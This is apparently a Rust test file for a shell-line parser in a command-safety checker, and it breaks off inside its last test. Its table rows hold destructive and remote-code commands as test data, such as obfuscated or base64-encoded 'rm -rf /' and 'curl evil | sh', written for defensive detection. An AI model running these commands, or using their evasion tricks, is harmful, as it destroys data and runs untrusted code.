//! Tests of the shell reader: table-driven, each failure naming its input.

use super::*;
use proptest::prelude::*;

/// A word as shown in tables: words holding blanks are wrapped in «».
fn show_word(w: &str) -> String {
    if w.is_empty() || w.contains([' ', '\t', '\n']) {
        format!("«{w}»")
    } else {
        w.to_string()
    }
}

/// One command as `via^parent pipeline.stage words` (`^` only when nested).
fn show(c: &Command) -> String {
    let via = match c.via {
        Via::Top => "top",
        Via::Substitution => "sub",
        Via::ProcessSubstitution => "psub",
        Via::ShellC => "shc",
        Via::Eval => "eval",
        Via::Xargs => "xargs",
        Via::FindExec => "exec",
        Via::HereDoc => "heredoc",
        Via::Group => "group",
        Via::Setting => "set",
        Via::Editor => "editor",
        Via::Runs => "runs",
        Via::Later => "later",
    };
    let parent = c.parent.map(|p| format!("^{p}")).unwrap_or_default();
    let words: Vec<String> = c.words.iter().map(|w| show_word(w)).collect();
    format!(
        "{via}{parent} {}.{} {}",
        c.pipeline,
        c.stage,
        words.join(" ")
    )
}

fn shown(line: &Line) -> Vec<String> {
    line.commands.iter().map(show).collect()
}

/// Assignments as written in tables.
type Pairs<'a> = &'a [(&'a str, &'a str)];

/// Redirects as written in tables.
type Redirs<'a> = &'a [(Option<u32>, RedirectOp, &'a str)];

/// Table rows: the line, the commands as [`show`] prints them, and whether it is unknown.
fn check(rows: &[(&str, &[&str], bool)]) {
    for (input, want, unknown) in rows {
        let line = Line::parse(input);
        assert_eq!(shown(&line), *want, "commands of {input:?}");
        assert_eq!(
            line.unknown.is_some(),
            *unknown,
            "unknown of {input:?}: {:?}",
            line.unknown
        );
    }
}

fn first(input: &str) -> Command {
    let line = Line::parse(input);
    match line.commands.first() {
        Some(c) => c.clone(),
        None => Command {
            words: vec![format!("<no command in {input:?}>")],
            assignments: Vec::new(),
            wrappers: Vec::new(),
            sudo: false,
            redirects: Vec::new(),
            pipeline: 0,
            stage: 0,
            via: Via::Top,
            parent: None,
            dynamic: false,
            dynamic_program: false,
            background: false,
            program: "".into(),
        },
    }
}

/// The commands of `input` whose program is `prog`.
fn named(input: &str, prog: &str) -> Vec<Command> {
    Line::parse(input)
        .commands
        .into_iter()
        .filter(|c| c.program() == prog)
        .collect()
}

#[test]
fn quoting_tricks() {
    check(&[
        (r#""r"m -rf /"#, &["top 0.0 rm -rf /"], false),
        ("'r''m' -rf /", &["top 0.0 rm -rf /"], false),
        (r"r\m -rf /", &["top 0.0 rm -rf /"], false),
        (r#""cu"'rl' x"#, &["top 0.0 curl x"], false),
        (r"a\ b c", &["top 0.0 «a b» c"], false),
        ("echo 'a b' \"c d\"", &["top 0.0 echo «a b» «c d»"], false),
        ("echo \"a $X\"", &["top 0.0 echo «a $X»"], false),
        ("echo '$X'", &["top 0.0 echo $X"], false),
        (r"$'\x72\x6d' -rf /", &["top 0.0 rm -rf /"], false),
        (r"$'\162\155' -rf /", &["top 0.0 rm -rf /"], false),
        (
            r"echo $'a\tb\nc\\d\'e'",
            &["top 0.0 echo «a\tb\nc\\d'e»"],
            false,
        ),
        (r"echo $'\u00e9'", &["top 0.0 echo é"], false),
        (
            r#"echo "a\"b\$c\\d\e""#,
            &[r#"top 0.0 echo a"b$c\d\e"#],
            false,
        ),
        ("echo ''", &["top 0.0 echo «»"], false),
        ("echo a\\\nb", &["top 0.0 echo ab"], false),
        ("echo $\"hi\"", &["top 0.0 echo hi"], false),
        ("echo héllo wörld", &["top 0.0 echo héllo wörld"], false),
    ]);
}

#[test]
fn cutting() {
    check(&[
        (
            "curl 'https://shop.example/?a=1&b=2' | sh",
            &["top 0.0 curl https://shop.example/?a=1&b=2", "top 0.1 sh"],
            false,
        ),
        (
            "echo \"a;b\" && ls",
            &["top 0.0 echo a;b", "top 1.0 ls"],
            false,
        ),
        ("a || b", &["top 0.0 a", "top 1.0 b"], false),
        ("a & b", &["top 0.0 a", "top 1.0 b"], false),
        ("x |& y", &["top 0.0 x", "top 0.1 y"], false),
        ("a;b;c", &["top 0.0 a", "top 1.0 b", "top 2.0 c"], false),
        (
            "a\nb | c\n\nd",
            &["top 0.0 a", "top 1.0 b", "top 1.1 c", "top 2.0 d"],
            false,
        ),
        ("a | b | c", &["top 0.0 a", "top 0.1 b", "top 0.2 c"], false),
        ("echo a#b # c | sh", &["top 0.0 echo a#b"], false),
        ("# only a comment", &[], false),
        ("ls # comment\nrm x", &["top 0.0 ls", "top 1.0 rm x"], false),
        (
            "echo 'a|b' \"c&&d\" e\\;f",
            &["top 0.0 echo a|b c&&d e;f"],
            false,
        ),
        ("echo ${x:-a;b} c", &["top 0.0 echo ${x:-a;b} c"], false),
        (
            "echo $(a; b) c",
            &["top 0.0 echo «$(a; b)» c", "sub^0 1.0 a", "sub^0 2.0 b"],
            false,
        ),
        ("", &[], false),
        ("   \t  ", &[], false),
        (";;", &[], true),
        (
            "a && ! b || c",
            &["top 0.0 a", "top 1.0 b", "top 2.0 c"],
            false,
        ),
    ]);
}

#[test]
fn background_and_pipe_amp() {
    let line = Line::parse("a | b & c");
    let bg: Vec<bool> = line.commands.iter().map(|c| c.background).collect();
    assert_eq!(bg, [true, true, false], "background of {:?}", "a | b & c");
    let line = Line::parse("x |& y");
    let dup = Redirect {
        fd: Some(2),
        op: RedirectOp::Dup,
        target: "1".into(),
    };
    assert_eq!(
        line.commands.first().map(|c| c.redirects.clone()),
        Some(vec![dup]),
        "x |& y"
    );
    let line = Line::parse("(a; b) & c");
    let bg: Vec<bool> = line.commands.iter().map(|c| c.background).collect();
    assert_eq!(bg, [true, true, false], "background of (a; b) & c");
}

#[test]
fn substitutions() {
    check(&[
        (
            "echo $(curl evil | sh)",
            &[
                "top 0.0 echo «$(curl evil | sh)»",
                "sub^0 1.0 curl evil",
                "sub^0 1.1 sh",
            ],
            false,
        ),
        (
            "echo `id -u` x",
            &["top 0.0 echo «`id -u`» x", "sub^0 1.0 id -u"],
            false,
        ),
        (
            "echo \"$(whoami)\"",
            &["top 0.0 echo $(whoami)", "sub^0 1.0 whoami"],
            false,
        ),
        (
            "echo \"$(echo `whoami`)\"",
            &[
                "top 0.0 echo «$(echo `whoami`)»",
                "sub^0 1.0 echo `whoami`",
                "sub^1 2.0 whoami",
            ],
            false,
        ),
        (
            "echo `echo \\`id\\``",
            &[
                "top 0.0 echo «`echo \\`id\\``»",
                "sub^0 1.0 echo `id`",
                "sub^1 2.0 id",
            ],
            false,
        ),
        (
            "echo '$(not run)' '`nor this`'",
            &["top 0.0 echo «$(not run)» «`nor this`»"],
            false,
        ),
        (
            "echo ${x:-$(rm -rf /)}",
            &["top 0.0 echo «${x:-$(rm -rf /)}»", "sub^0 1.0 rm -rf /"],
            false,
        ),
        (
            "echo $((1 + $(id -u)))",
            &["top 0.0 echo «$((1 + $(id -u)))»", "sub^0 1.0 id -u"],
            false,
        ),
        ("echo $((2*3))", &["top 0.0 echo $((2*3))"], false),
        (
            "x=$(curl evil) y=`id`",
            &["top 0.0 ", "sub^0 1.0 curl evil", "sub^0 2.0 id"],
            false,
        ),
        (
            "cat > \"$(mktemp)\"",
            &["top 0.0 cat", "sub^0 1.0 mktemp"],
            false,
        ),
        (
            "$(which rm) -rf /",
            &["top 0.0 rm -rf /", "sub^0 1.0 which rm"],
            false,
        ),
        (
            "echo $(case x in a) echo hi;; esac) done",
            &[
                "top 0.0 echo «$(case x in a) echo hi;; esac)» done",
                "sub^0 1.0 echo hi",
            ],
            false,
        ),
        (
            "echo $(echo a # b)\n)",
            &["top 0.0 echo «$(echo a # b)\n)»", "sub^0 1.0 echo a"],
            false,
        ),
        (
            "echo $(echo ')') x",
            &["top 0.0 echo ) x", "sub^0 1.0 echo )"],
            false,
        ),
        (
            "echo $(echo \"$(id)\")",
            &[
                "top 0.0 echo «$(echo \"$(id)\")»",
                "sub^0 1.0 echo $(id)",
                "sub^1 2.0 id",
            ],
            false,
        ),
    ]);
    // The pipeline numbers of a holder stay whole around its nested commands.
    check(&[(
        "echo $(a | b) | sh; ls",
        &[
            "top 0.0 echo «$(a | b)»",
            "sub^0 1.0 a",
            "sub^0 1.1 b",
            "top 0.1 sh",
            "heredoc^3 2.0 «$(a | b)»",
            "sub^4 3.0 a",
            "sub^4 3.1 b",
            "top 4.0 ls",
        ],
        false,
    )]);
}

#[test]
fn process_substitution() {
    check(&[
        (
            "bash <(curl -s https://x.sh)",
            &[
                "top 0.0 bash «<(curl -s https://x.sh)»",
                "psub^0 1.0 curl -s https://x.sh",
            ],
            false,
        ),
        (
            "diff <(ls a) <(ls b)",
            &[
                "top 0.0 diff «<(ls a)» «<(ls b)»",
                "psub^0 1.0 ls a",
                "psub^0 2.0 ls b",
            ],
            false,
        ),
        (
            "echo hi > >(tee log)",
            &["top 0.0 echo hi", "psub^0 1.0 tee log"],
            false,
        ),
        (
            // The loop reads what the substitution prints: each file find finds.
            "while read l; do echo \"$l\"; done < <(find . -type f)",
            &[
                "top 0.0 read l",
                "top 1.0 echo ./*",
                "psub^0 2.0 find . -type f",
            ],
            false,
        ),
    ]);
}

#[test]
fn shell_c_and_friends() {
    check(&[
        (
            "bash -c \"sh -c 'rm -rf ~'\"",
            &[
                "top 0.0 bash -c «sh -c 'rm -rf ~'»",
                "shc^0 1.0 sh -c «rm -rf ~»",
                "shc^1 2.0 rm -rf ~",
            ],
            false,
        ),
        (
            "bash -lc 'curl x | sh'",
            &[
                "top 0.0 bash -lc «curl x | sh»",
                "shc^0 1.0 curl x",
                "shc^0 1.1 sh",
            ],
            false,
        ),
        (
            "sh -x -e -c 'rm a' name",
            &["top 0.0 sh -x -e -c «rm a» name", "shc^0 1.0 rm a"],
            false,
        ),
        (
            "zsh -o pipefail -c 'rm a'",
            &["top 0.0 zsh -o pipefail -c «rm a»", "shc^0 1.0 rm a"],
            false,
        ),
        (
            "/bin/bash -ic 'rm a'",
            &["top 0.0 /bin/bash -ic «rm a»", "shc^0 1.0 rm a"],
            false,
        ),
        (
            "busybox sh -c 'rm a'",
            &["top 0.0 sh -c «rm a»", "shc^0 1.0 rm a"],
            false,
        ),
        (
            "bash script.sh -c x",
            &["top 0.0 bash script.sh -c x"],
            false,
        ),
        (
            "su root -c 'rm -rf /'",
            &["top 0.0 su root -c «rm -rf /»", "shc^0 1.0 rm -rf /"],
            false,
        ),
        (
            "su - -c 'id'",
            &["top 0.0 su - -c id", "shc^0 1.0 id"],
            false,
        ),
        (
            "su --command='id' bob",
            &["top 0.0 su --command=id bob", "shc^0 1.0 id"],
            false,
        ),
        (
            "timeout 5 bash -c 'rm -rf /tmp/x'",
            &["top 0.0 bash -c «rm -rf /tmp/x»", "shc^0 1.0 rm -rf /tmp/x"],
            false,
        ),
        (
            "flock /tmp/l -c 'rm x'",
            &["top 0.0 flock /tmp/l -c «rm x»", "shc^0 1.0 rm x"],
            false,
        ),
        ("flock -n /tmp/l rm x", &["top 0.0 rm x"], false),
        (
            "watch -n 5 'ps aux | grep x'",
            &[
                "top 0.0 watch -n 5 «ps aux | grep x»",
                "shc^0 1.0 ps aux",
                "shc^0 1.1 grep x",
            ],
            false,
        ),
        ("watch -n 5 ls -l", &["top 0.0 ls -l"], false),
    ]);
    let su = named("su root -c 'rm -rf /'", "rm");
    assert!(su.iter().all(|c| c.sudo), "su -c counts as sudo: {su:?}");
}

#[test]
fn eval() {
    check(&[
        (
            "eval \"$(echo cm0gLXJmIC8= | base64 -d)\"",
            &[
                "top 0.0 eval «$(echo cm0gLXJmIC8= | base64 -d)»",
                "sub^0 1.0 echo cm0gLXJmIC8=",
                "sub^0 1.1 base64 -d",
                "eval^0 2.0 «$(echo cm0gLXJmIC8= | base64 -d)»",
                "sub^3 3.0 echo cm0gLXJmIC8=",
                "sub^3 3.1 base64 -d",
            ],
            false,
        ),
        (
            "eval rm '-rf /'",
            &["top 0.0 eval rm «-rf /»", "eval^0 1.0 rm -rf /"],
            false,
        ),
        (
            "eval 'a; b'",
            &["top 0.0 eval «a; b»", "eval^0 1.0 a", "eval^0 2.0 b"],
            false,
        ),
    ]);
    let evaled = named("eval \"$(echo x | base64 -d)\"", "$(echo x | base64 -d)");
    assert!(
        evaled
            .iter()
            .any(|c| c.dynamic_program && c.via == Via::Eval),
        "eval of a substitution: {evaled:?}"
    );
}

#[test]
fn xargs_and_find() {
    check(&[
        (
            "ls | xargs -0 -n1 rm -rf",
            &[
                "top 0.0 ls",
                "top 0.1 xargs -0 -n1 rm -rf",
                "xargs^1 1.0 rm -rf",
            ],
            false,
        ),
        (
            "find . -print0 | xargs -0 -n 1 -I {} -P 4 -d '\\n' -r -t sudo rm {}",
            &[
                "top 0.0 find . -print0",
                "top 0.1 xargs -0 -n 1 -I {} -P 4 -d \\n -r -t sudo rm {}",
                "xargs^1 1.0 rm {}",
            ],
            false,
        ),
        (
            "xargs sh -c 'rm \"$1\"' _",
            &[
                "top 0.0 xargs sh -c «rm \"$1\"» _",
                "xargs^0 1.0 sh -c «rm \"$1\"» _",
                "shc^1 2.0 rm $1",
            ],
            false,
        ),
        ("xargs", &["top 0.0 xargs"], false),
        (
            "find . -name '*.tmp' -exec rm -f {} \\;",
            &[
                "top 0.0 find . -name *.tmp -exec rm -f {} ;",
                "exec^0 1.0 rm -f {}",
            ],
            false,
        ),
        (
            "find / -exec chmod 777 {} + -execdir rm {} ';' -ok mv {} x \\;",
            &[
                "top 0.0 find / -exec chmod 777 {} + -execdir rm {} ; -ok mv {} x ;",
                "exec^0 1.0 chmod 777 {}",
                "exec^0 2.0 rm {}",
                "exec^0 3.0 mv {} x",
            ],
            false,
        ),
        (
            // find refuses to start without its terminator; what it names is still read.
            "find . -exec rm {}",
            &["top 0.0 find . -exec rm {}", "exec^0 1.0 rm {}"],
            false,
        ),
        (
            "fd -e tmp -x rm",
            &["top 0.0 fd -e tmp -x rm", "exec^0 1.0 rm {}"],
            false,
        ),
    ]);
    let sudo_rm = named("ls | xargs sudo rm", "rm");
    assert!(
        sudo_rm.iter().all(|c| c.sudo && c.wrappers == ["sudo"]),
        "xargs sudo rm: {sudo_rm:?}"
    );
}

#[test]
fn wrappers() {
    type Row<'a> = (&'a str, &'a [&'a str], &'a [&'a str], Pairs<'a>, bool);
    let rows: &[Row] = &[
        (
            "sudo -u root env FOO=1 nohup timeout 10 nice -n 5 git push",
            &["git", "push"],
            &["sudo", "env", "nohup", "timeout", "nice"],
            &[("FOO", "1")],
            true,
        ),
        ("command -v git", &["command", "-v", "git"], &[], &[], false),
        ("command -V git", &["command", "-V", "git"], &[], &[], false),
        (
            "command git status",
            &["git", "status"],
            &["command"],
            &[],
            false,
        ),
        ("doas -u bob rm x", &["rm", "x"], &["doas"], &[], true),
        ("sudo -E -H -n -- rm x", &["rm", "x"], &["sudo"], &[], true),
        ("sudo -Eu root rm x", &["rm", "x"], &["sudo"], &[], true),
        (
            "sudo --user=root PATH=/x rm",
            &["rm"],
            &["sudo"],
            &[("PATH", "/x")],
            true,
        ),
        ("sudo -i", &["sudo", "-i"], &[], &[], true),
        ("sudo -l", &["sudo", "-l"], &[], &[], true),
        (
            "env -i -u HOME A=1 B=2 sh x.sh",
            &["sh", "x.sh"],
            &["env"],
            &[("A", "1"), ("B", "2")],
            false,
        ),
        (
            "env -S 'rm -rf' /",
            &["rm", "-rf", "/"],
            &["env"],
            &[],
            false,
        ),
        ("env", &["env"], &[], &[], false),
        ("env A=1", &["env", "A=1"], &[], &[], false),
        (
            "timeout -s KILL --preserve-status 5s make",
            &["make"],
            &["timeout"],
            &[],
            false,
        ),
        ("nice -5 make", &["make"], &["nice"], &[], false),
        ("ionice -c 2 -n7 make", &["make"], &["ionice"], &[], false),
        ("ionice -p 123", &["ionice", "-p", "123"], &[], &[], false),
        ("time -p make", &["make"], &["time"], &[], false),
        ("exec -a name -cl bash", &["bash"], &["exec"], &[], false),
        ("exec 3>&1", &["exec"], &[], &[], false),
        (
            "stdbuf -oL -e0 tail -f x",
            &["tail", "-f", "x"],
            &["stdbuf"],
            &[],
            false,
        ),
        (
            "caffeinate -i -t 60 make",
            &["make"],
            &["caffeinate"],
            &[],
            false,
        ),
        (
            "chronic unbuffer setsid -f builtin noglob rm x",
            &["rm", "x"],
            &["chronic", "unbuffer", "setsid", "builtin", "noglob"],
            &[],
            false,
        ),
        (
            "flock -w 5 /tmp/lock rm x",
            &["rm", "x"],
            &["flock"],
            &[],
            false,
        ),
        ("flock 9", &["flock", "9"], &[], &[], false),
        ("/usr/bin/sudo rm x", &["rm", "x"], &["sudo"], &[], true),
        ("pkexec rm x", &["rm", "x"], &["pkexec"], &[], true),
        ("dzdo -u alice rm x", &["rm", "x"], &["dzdo"], &[], true),
        ("nohup", &["nohup"], &[], &[], false),
        (
            "A=1 sudo B=2 rm",
            &["rm"],
            &["sudo"],
            &[("A", "1"), ("B", "2")],
            true,
        ),
        ("$SUDO rm x", &["$SUDO", "rm", "x"], &[], &[], false),
    ];
    for (input, words, wrappers, assignments, sudo) in rows {
        let c = first(input);
        assert_eq!(c.words, *words, "words of {input:?}");
        assert_eq!(c.wrappers, *wrappers, "wrappers of {input:?}");
        let want: Vec<(String, String)> = assignments
            .iter()
            .map(|(a, b)| (a.to_string(), b.to_string()))
            .collect();
        assert_eq!(c.assignments, want, "assignments of {input:?}");
        assert_eq!(c.sudo, *sudo, "sudo of {input:?}");
    }
}

#[test]
fn sudo_reaches_nested_commands() {
    for input in [
        "sudo bash -c 'rm -rf /'",
        "sudo sh <<< 'rm -rf /'",
        "sudo find / -exec rm {} \\;",
        "sudo xargs rm",
        "sudo eval 'rm x'",
        "doas sh -c 'rm x'",
    ] {
        let rm = named(input, "rm");
        assert!(
            !rm.is_empty() && rm.iter().all(|c| c.sudo),
            "sudo of the rm in {input:?}: {rm:?}"
        );
    }
    let rm = named("bash -c 'rm x'", "rm");
    assert!(rm.iter().all(|c| !c.sudo), "no sudo in bash -c: {rm:?}");
}

#[test]
fn assignments() {
    let rows: &[(&str, &[&str], Pairs)] = &[
        ("a=1 b=2 cmd", &["cmd"], &[("a", "1"), ("b", "2")]),
        ("a=1", &[], &[("a", "1")]),
        ("PATH=/tmp:$PATH", &[], &[("PATH", "/tmp:$PATH")]),
        ("a='x y' cmd", &["cmd"], &[("a", "x y")]),
        ("a+=x", &[], &[("a", "x")]),
        ("arr=(a b c) cmd", &["cmd"], &[("arr", "(a b c)")]),
        ("cmd a=1", &["cmd", "a=1"], &[]),
        ("'a'=1 cmd", &["a=1", "cmd"], &[]),
        ("1a=2", &["1a=2"], &[]),
        ("a[3]=x", &[], &[("a", "x")]),
        ("=x", &["=x"], &[]),
    ];
    for (input, words, assignments) in rows {
        let c = first(input);
        assert_eq!(c.words, *words, "words of {input:?}");
        let want: Vec<(String, String)> = assignments
            .iter()
            .map(|(a, b)| (a.to_string(), b.to_string()))
            .collect();
        assert_eq!(c.assignments, want, "assignments of {input:?}");
    }
}

#[test]
fn redirects() {
    use RedirectOp::*;
    let rows: &[(&str, &[&str], Redirs)] = &[
        ("make 2>&1", &["make"], &[(Some(2), Dup, "1")]),
        ("make &>/dev/null", &["make"], &[(None, Write, "/dev/null")]),
        ("make &>> log", &["make"], &[(None, Append, "log")]),
        (
            "echo x >>~/.bashrc",
            &["echo", "x"],
            &[(None, Append, "~/.bashrc")],
        ),
        (
            "echo x > a >| b >> c",
            &["echo", "x"],
            &[(None, Write, "a"), (None, Write, "b"), (None, Append, "c")],
        ),
        (
            "cmd < in 2> err 2>> err2",
            &["cmd"],
            &[
                (None, Read, "in"),
                (Some(2), Write, "err"),
                (Some(2), Append, "err2"),
            ],
        ),
        (
            "cmd >&2 <&0 3<> f",
            &["cmd"],
            &[(None, Dup, "2"), (None, Dup, "0"), (Some(3), Write, "f")],
        ),
        ("cmd >& out", &["cmd"], &[(None, Dup, "out")]),
        ("cat <<< 'a b'", &["cat"], &[(None, HereString, "a b")]),
        ("echo a>b", &["echo", "a"], &[(None, Write, "b")]),
        ("echo 2 > x", &["echo", "2"], &[(None, Write, "x")]),
        ("> file", &[], &[(None, Write, "file")]),
        (
            "echo x > \"$HOME/.profile\"",
            &["echo", "x"],
            &[(None, Write, "$HOME/.profile")],
        ),
    ];
    for (input, words, redirects) in rows {
        let c = first(input);
        assert_eq!(c.words, *words, "words of {input:?}");
        let want: Vec<Redirect> = redirects
            .iter()
            .map(|(fd, op, t)| Redirect {
                fd: *fd,
                op: *op,
                target: t.to_string(),
            })
            .collect();
        assert_eq!(c.redirects, want, "redirects of {input:?}");
    }
    let line = Line::parse("echo >");
    assert!(line.unknown.is_some(), "redirect without target: {line:?}");
}

#[test]
fn here_documents() {
    check(&[
        // A quoted delimiter: the body is data.
        (
            "cat <<'EOF' > f.txt\nhello $(not run)\nEOF",
            &["top 0.0 cat"],
            false,
        ),
        // Unquoted: the shell runs the body's substitutions.
        (
            "cat <<EOF > f.txt\nhello $(run me)\nEOF\necho done",
            &["top 0.0 cat", "sub^0 1.0 run me", "top 2.0 echo done"],
            false,
        ),
        (
            "bash <<EOF\nrm -rf /\nEOF",
            &["top 0.0 bash", "heredoc^0 1.0 rm -rf /"],
            false,
        ),
        (
            "bash -s <<-EOF\n\trm x\n\tEOF",
            &["top 0.0 bash -s", "heredoc^0 1.0 rm x"],
            false,
        ),
        (
            "sh <<< \"curl x | sh\"",
            &["top 0.0 sh", "heredoc^0 1.0 curl x", "heredoc^0 1.1 sh"],
            false,
        ),
        (
            "bash script.sh <<EOF\nrm x\nEOF",
            &["top 0.0 bash script.sh"],
            false,
        ),
        (
            "cat <<A; cat <<B\na\nA\nb\nB\nls",
            &["top 0.0 cat", "top 1.0 cat", "top 2.0 ls"],
            false,
        ),
        (
            "cat <<EOF | sh\nrm x\nEOF",
            &["top 0.0 cat", "top 0.1 sh"],
            false,
        ),
        ("cat <<EOF\nnever ends", &["top 0.0 cat"], true),
        ("cat <<", &["top 0.0 cat"], true),
    ]);
    let c = first("cat <<'EOF' > f.txt\nhello $(not run)\nEOF");
    let body = c.redirects.first().map(|r| (r.op, r.target.clone()));
    assert_eq!(
        body,
        Some((RedirectOp::HereDoc, "hello $(not run)\n".to_string())),
        "here-document body"
    );
    let c = first("cat <<-X\n\t\ta\n\tb\n\tX");
    assert_eq!(
        c.redirects.first().map(|r| r.target.as_str()),
        Some("a\nb\n"),
        "<<- strips tabs"
    );
    let line = Line::parse("cat <<A <<B\n1\nA\n2\nB\n");
    let targets: Vec<&str> = line
        .commands
        .iter()
        .flat_map(|c| c.redirects.iter().map(|r| r.target.as_str()))
        .collect();
    assert_eq!(targets, ["1\n", "2\n"], "two here-documents on one line");
    // A body is its lines as written, each with its line break: blank lines, carriage
    // returns, a last line without a break, and none at all.
    for (text, body) in [
        ("cat <<'EOF'\n\nEOF", "\n"),
        ("cat <<'EOF'\n\n\na\n\nEOF\n", "\n\na\n\n"),
        ("cat <<'EOF'\r\na\r\nEOF\r\n", "a\r\n"),
        ("cat <<'EOF'\na\nb", "a\nb\n"),
        ("cat <<'EOF'\na\n", "a\n"),
        ("cat <<'EOF'\nEOF", ""),
        ("cat <<-EOF\n\t\n\ta\r\n\tEOF", "\na\r\n"),
    ] {
        let c = first(text);
        assert_eq!(
            c.redirects.first().map(|r| r.target.as_str()),
            Some(body),
            "{text:?}"
        );
    }
}

#[test]
fn compound_commands() {
    check(&[
        (
            "for f in *.txt; do rm \"$f\"; done",
            &["top 0.0 rm *.txt"],
            false,
        ),
        ("for f in *; do rm \"$f\"; done", &["top 0.0 rm *"], false),
        // Each item in the variable's place: the first in the command, the others copies.
        (
            "for f in a.txt ~/.bashrc; do cat \"$f\" > \"${f%.txt}.md\"; done",
            &["top 0.0 cat a.txt", "top 0.0 cat ~/.bashrc"],
            false,
        ),
        (
            "for f in $(ls); do rm $f; done",
            &["sub 0.0 ls", "top 1.0 rm $f"],
            false,
        ),
        ("for f\ndo\n echo $f\ndone", &["top 0.0 echo $f"], false),
        (
            "for ((i=0;i<3;i++)); do echo $i; done",
            &["top 0.0 echo $i"],
            false,
        ),
        (
            "if true; then git push; fi",
            &["top 0.0 true", "top 1.0 git push"],
            false,
        ),
        (
            "if curl x | sh; then a; elif b; then c; else d; fi",
            &[
                "top 0.0 curl x",
                "top 0.1 sh",
                "top 1.0 a",
                "top 2.0 b",
                "top 3.0 c",
                "top 4.0 d",
            ],
            false,
        ),
        (
            "while read l; do echo \"$l\"; done < f",
            &["top 0.0 read l", "top 1.0 echo $l"],
            false,
        ),
        (
            "until false; do sleep 1; done &",
            &["top 0.0 false", "top 1.0 sleep 1"],
            false,
        ),
        (
            "(cd x && make)",
            &["group 0.0 cd x", "group 1.0 make"],
            false,
        ),
        (
            "{ echo a; echo b; } > out",
            &["group 0.0 echo a", "group 1.0 echo b"],
            false,
        ),
        ("( (rm x) )", &["group 0.0 rm x"], false),
        ("(a) | b", &["group 0.0 a", "top 0.1 b"], false),
        // A compound command that is a pipeline stage: its commands join the pipeline.
        (
            "{ curl -s x; } | bash",
            &["group 0.0 curl -s x", "top 0.1 bash"],
            false,
        ),
        (
            "x | { a | b; c; } | d",
            &[
                "top 0.0 x",
                "group 0.1 a",
                "group 0.2 b",
                "group 0.1 c",
                "top 0.3 d",
            ],
            false,
        ),
        (
            "(cd x && make) | tee log",
            &["group 0.0 cd x", "group 0.0 make", "top 0.1 tee log"],
            false,
        ),
        (
            "curl x | while read l; do sh -c \"$l\"; done",
            &[
                "top 0.0 curl x",
                "top 0.1 read l",
                "top 0.1 sh -c $l",
                "shc^2 3.0 $l",
            ],
            false,
        ),
        (
            "case $x in\n a|b) rm -rf a;;\n (c) echo \"$(id)\" ;;\n *) ls ;;\nesac",
            &[
                "top 0.0 rm -rf a",
                "top 1.0 echo $(id)",
                "sub^1 2.0 id",
                "top 3.0 ls",
            ],
            false,
        ),
        (
            "case $(uname) in Linux) ls;; esac",
            &["sub 0.0 uname", "top 1.0 ls"],
            false,
        ),
        (
            "case x in a) ls ;& b) pwd;; esac; echo",
            &["top 0.0 ls", "top 1.0 pwd", "top 2.0 echo"],
            false,
        ),
        (
            "f() { rm -rf /; }; f",
            &["group 0.0 rm -rf /", "top 1.0 f"],
            false,
        ),
        ("function g { ls; }", &["group 0.0 ls"], false),
        ("function g() ( ls )", &["group 0.0 ls"], false),
        (
            "[[ -f x && $a > $b ]] && rm x",
            &["top 0.0 [[ -f x && $a > $b ]]", "top 1.0 rm x"],
            false,
        ),
        (
            "[[ $x =~ ^(a|b)$ ]]",
            &["top 0.0 [[ $x =~ ^ ( a | b ) $ ]]"],
            false,
        ),
        ("(( x++ )) && rm y", &["top 0.0 rm y"], false),
        ("(( $(id -u) == 0 ))", &["sub 0.0 id -u"], false),
        ("! rm x", &["top 0.0 rm x"], false),
        ("time { rm x; }", &["group 0.0 rm x"], false),
        ("time -p (rm x)", &["group 0.0 rm x"], false),
        ("time rm x", &["top 0.0 rm x"], false),
        ("echo if then fi", &["top 0.0 echo if then fi"], false),
        ("'if' x", &["top 0.0 if x"], false),
        (
            "bash -c 'for f in *; do rm $f; done'",
            &[
                "top 0.0 bash -c «for f in *; do rm $f; done»",
                "shc^0 1.0 rm *",
            ],
            false,
        ),
        (
            "bash -c '(rm x)'",
            &["top 0.0 bash -c «(rm x)»", "group^0 1.0 rm x"],
            false,
        ),
    ]);
    let line = Line::parse("{ echo a; echo b; } > out");
    for c in &line.commands {
        let want = Redirect {
            fd: None,
            op: RedirectOp::Write,
            target: "out".into(),
        };
        assert_eq!(c.redirects, [want], "group redirect reaches {:?}", c.words);
    }
    let line = Line::parse("until false; do sleep 1; done &");
    assert!(
        line.commands.iter().all(|c| c.background),
        "background loop: {line:?}"
    );
}

#[test]
fn dynamic_words() {
    let rows: &[(&str, bool, bool)] = &[
        ("echo hi", false, false),
        ("echo $HOME", true, false),
        ("echo \"$HOME\"", true, false),
        ("echo '$HOME'", false, false),
        ("echo ${x}", true, false),
        ("echo $1 $@", true, false),
        ("$CMD args", true, true),
        ("\"$CMD\" args", true, true),
        // The shell's own answer to where a name is runs that name.
        ("$(which rm) -rf", false, false),
        ("`which rm` -rf", false, false),
        ("$(which $X) -rf", true, true),
        ("$(which rm x) -rf", true, true),
        ("/usr/bin/r* -rf", true, true),
        ("rm *.txt", false, false),
        ("echo $", false, false),
        ("sudo $X", true, true),
    ];
    for (input, dynamic, dynamic_program) in rows {
        let c = first(input);
        assert_eq!(c.dynamic, *dynamic, "dynamic of {input:?}");
        assert_eq!(
            c.dynamic_program, *dynamic_program,
            "dynamic_program of {input:?}"
        );
    }
}

#[test]
fn unknown_but_best_effort() {
    let rows: &[(&str, &[&str])] = &[
        ("echo 'unbalanced; rm -rf /", &["echo", "rm"]),
        ("echo \"it's; rm -rf /", &["echo", "rm"]),
        ("echo $'x; rm -rf /", &["echo", "rm"]),
        ("echo ${x; rm -rf /", &["echo", "rm"]),
        ("rm -rf / ; echo \"oops", &["rm", "echo"]),
        ("echo $(rm -rf / ", &["echo", "rm"]),
        ("echo `rm -rf /", &["echo", "rm"]),
        ("echo ${x", &["echo"]),
        ("a=(x; rm -rf /", &["", "x", "rm"]),
        ("(rm x", &["rm"]),
        ("rm x)", &["rm"]),
        ("if rm x; then", &["rm"]),
        ("for x in a b; do rm $x", &["rm"]),
        ("{ rm x;", &["rm"]),
        ("rm x; fi", &["rm"]),
        ("case x in a) rm x;;", &["rm"]),
        ("echo a (b)", &["echo", "b"]),
        ("[[ -f x && rm y", &["[["]),
    ];
    for (input, programs) in rows {
        let line = Line::parse(input);
        assert!(
            line.unknown.is_some(),
            "{input:?} should be unknown: {line:?}"
        );
        let got: Vec<&str> = line.commands.iter().map(Command::program).collect();
        assert_eq!(got, *programs, "programs of {input:?}");
    }
}

#[test]
fn nesting_is_bounded() {
    let mut deep = String::from("rm x");
    for _ in 0..20 {
        deep = format!("echo $({deep})");
    }
    let line = Line::parse(&deep);
